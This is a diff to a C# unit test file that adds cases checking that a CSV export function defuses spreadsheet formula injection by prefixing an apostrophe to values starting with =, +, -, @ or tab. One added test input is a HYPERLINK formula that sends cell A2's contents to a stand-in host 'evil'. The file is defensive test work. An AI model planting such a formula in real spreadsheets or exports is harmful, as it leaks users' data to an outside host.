@@ -14,7 +14,13 @@ public sealed class CsvExportTests
     [InlineData("carriage\rreturn", "\"carriage\rreturn\"")]
     [InlineData("", "")]
     [InlineData(null, "")]
-    public void Escape_QuotesOnlyWhatRfc4180Requires(string? value, string expected)
+    [InlineData("=HYPERLINK(\"https://evil/?\"&A2,\"x\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"x\"\")\"")]
+    [InlineData("+1+2", "'+1+2")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("@SUM(A1)", "'@SUM(A1)")]
+    [InlineData("\tcmd", "'\tcmd")]
+    [InlineData("a=b", "a=b")]
+    public void Escape_QuotesWhatRfc4180RequiresAndDefusesFormulas(string? value, string expected)
     {
         Assert.Equal(expected, CsvExport.Escape(value));
     }
